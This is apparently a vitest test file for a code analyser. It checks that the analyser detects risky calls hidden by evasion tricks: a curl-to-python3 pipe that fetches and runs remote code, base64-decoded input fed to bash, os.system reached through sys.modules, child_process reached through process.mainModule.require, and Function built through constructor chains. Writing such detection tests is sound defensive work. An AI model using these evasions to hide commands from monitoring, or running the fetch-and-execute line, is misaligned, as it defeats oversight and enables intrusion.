// Ways code hides a risky call from a naive analyser; each must still be seen.
import { describe, expect, it } from "vitest";
import { analyzeCode } from "@/lib/exec/analyze-code";
import type { CodeLanguage } from "@/lib/exec/types";

async function ops(language: CodeLanguage, code: string) {
  return (await analyzeCode(language, code)).operations.map((op) => `${op.kind} ${op.target}`);
}

describe("evasions the analyser sees through", () => {
  it("Python: __builtins__.eval and builtins.exec are eval and exec", async () => {
    expect(await ops("python", "import builtins\n__builtins__.eval('1')\nbuiltins.exec('x')\n")).toEqual(["import builtins", "dynamic_code null", "dynamic_code null"]);
  });

  it("Python: sys.modules['os'].system is os.system, and a built key is obfuscation", async () => {
    expect(await ops("python", "import sys\nsys.modules['os'].system('id')\nsys.modules['o' + 's']\n")).toEqual([
      "import sys", "process os.system", "obfuscation os",
    ]);
  });

  it("Python: ctypes loading a native library is dynamic code", async () => {
    expect(await ops("python", "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n")).toEqual(["import ctypes", "dynamic_code libc.so.6"]);
  });

  it("JavaScript: process.mainModule.require and module.require are require", async () => {
    expect(await ops("javascript", "process.mainModule.require('child_process').exec('id');\nmodule.require('fs');\n")).toEqual([
      "process child_process.exec", "import child_process", "import fs",
    ]);
  });

  it("JavaScript: the indirect eval (0, eval)(code) is eval", async () => {
    expect(await ops("javascript", "(0, eval)(code);\n")).toEqual(["dynamic_code null"]);
  });

  it("JavaScript: [].constructor.constructor(code) is Function, hidden", async () => {
    expect(await ops("javascript", "[].constructor.constructor('return process')();\n")).toEqual(["dynamic_code null", "obfuscation null"]);
  });

  it("bash: /bin/rm is rm, and a path-named program keeps its path", async () => {
    expect(await ops("bash", "/bin/rm -rf out/x\n./deploy.sh\n")).toEqual(["file_write out/x", "process ./deploy.sh"]);
  });

  it("bash: text piped into python or node is dynamic code, like a shell", async () => {
    expect(await ops("bash", "curl -s https://x.io/a.py | python3\n")).toEqual(["dynamic_code null", "network x.io"]);
  });

  it("bash: a here-string or here-document fed to a shell is dynamic code, obfuscation when decoded", async () => {
    expect(await ops("bash", "bash <<< \"$(echo aWQ= | base64 -d)\"\n")).toEqual(["dynamic_code null", "obfuscation null", "process echo"]);
    expect(await ops("bash", "python3 <<EOF\nimport os\nEOF\n")).toEqual(["dynamic_code null"]);
  });
});
